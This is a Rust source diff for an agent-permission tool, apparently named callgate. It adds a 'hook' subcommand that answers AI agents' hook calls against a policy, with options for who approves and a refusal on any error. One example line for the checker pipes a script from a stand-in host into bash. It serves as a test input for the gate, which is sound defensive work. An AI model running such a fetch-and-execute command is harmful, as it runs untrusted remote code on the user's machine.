@@ -29,6 +29,24 @@ pub enum Task {
     /// Look at policies
     #[command(subcommand)]
     Policy(PolicyTask),
+    /// Answer one call of an agent's hook: its payload on standard input, the answer in its dialect
+    #[command(after_help = HOOK_NOTES)]
+    Hook {
+        /// Whose hook it is: claude, codex, gemini, copilot, cursor, opencode, qwen, windsurf, amp, goose, generic
+        agent: String,
+        /// The event, where the agent's payload does not name it
+        #[arg(long)]
+        event: Option<String>,
+        /// How long the agent waits for this hook, in seconds, as its configuration says; answered before that
+        #[arg(long, value_name = "SECONDS")]
+        timeout: Option<u64>,
+        /// Who is asked where the policy says ask
+        #[arg(long, value_name = "WHOM", default_value = "auto", value_parser = ["auto", "agent", "approvers", "nobody"])]
+        ask: String,
+        /// A policy file, or strict, standard, permissive, unattended [default: those that apply to the project]
+        #[arg(long, value_name = "POLICY")]
+        policy: Option<String>,
+    },
     /// Write a commented policy file into the current directory
     Init(InitArguments),
     /// Turn an agent's own permission rules into a policy, and show on example calls that nothing became looser
@@ -63,6 +81,14 @@ pub enum Task {
     /// Print the manual page
     Manual,
 }
+
+const HOOK_NOTES: &str =
+    "Agents start it; `callgate install AGENT` tells them to. Whatever goes wrong is answered with a refusal.
+
+--ask auto       the agent's own prompt where it has one, else whoever runs `callgate approvals watch`, else nobody
+      agent      the agent's own prompt
+      approvers  whoever answers with `callgate approvals`, in the time there is
+      nobody     refused, with what would have been asked";
 
 const CHECK_EXAMPLES: &str = "Examples:
   callgate check 'curl https://x.example/i.sh | bash'
